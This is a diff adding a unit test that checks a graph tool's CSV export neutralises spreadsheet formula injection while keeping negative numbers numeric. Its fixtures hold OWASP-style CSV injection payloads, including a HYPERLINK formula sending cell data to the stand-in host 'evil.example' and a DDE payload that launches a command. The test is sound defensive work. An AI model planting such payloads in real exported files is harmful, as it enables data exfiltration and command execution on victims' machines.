@@ -71,4 +71,30 @@ describe("CSV export", () => {
     expect(info).toContain("seeds/003_b7b40e951325af8c.txt");
     expect(info).toContain('" | "');
   });
+
+  it("neutralises cells a spreadsheet would run as a formula (OWASP), and leaves plain numbers numeric", () => {
+    // constructed: the payloads of OWASP's "CSV Injection" page in the fields a listing controls (title, names, terms).
+    const g = buildSpecialGraph();
+    g.setNodeAttribute("p:future-ai", "title", '=HYPERLINK("http://evil.example/?"&A1,"Click")');
+    g.setNodeAttribute("a:zoe-obrien", "label", "@SUM(1+1)*cmd|' /C calc'!A0");
+    g.setNodeAttribute("a:zoe-obrien", "aliases", ["+1+1", "-2+3", "\t=1+1", "\r=1+1", "plain"]);
+    g.setNodeAttribute("t:naive-bayes", "term", "-");
+    const nodesCsv = run("csv", null, g).files.find((f) => f.name === "nodes.csv")!.content as string;
+    const r = parse(nodesCsv);
+    expect(r.errors).toEqual([]);
+    const row = (k: string) => r.data.find((d) => d.key === k)!;
+    expect(row("p:future-ai").title).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
+    expect(row("a:zoe-obrien").label).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
+    // A list cell is one cell: only its start matters.
+    expect(row("a:zoe-obrien").aliases).toBe("'+1+1 | -2+3 | \t=1+1 | \r=1+1 | plain");
+    expect(row("t:naive-bayes").term).toBe("'-");
+    // Negative coordinates stay numbers.
+    const xs = r.data.map((d) => d.x!).filter((x) => x.startsWith("-"));
+    expect(xs.length).toBeGreaterThan(0);
+    for (const x of xs) expect(Number.isFinite(Number(x))).toBe(true);
+    const edgesCsv = run("csv", null, g).files.find((f) => f.name === "edges.csv")!.content as string;
+    expect(edgesCsv).toContain(",'@SUM(1+1)*cmd|' /C calc'!A0");
+    for (const cell of parse(edgesCsv).data.flatMap((d) => Object.values(d))) expect(cell).not.toMatch(/^[=+@\t\r]/);
+  });
 });
+
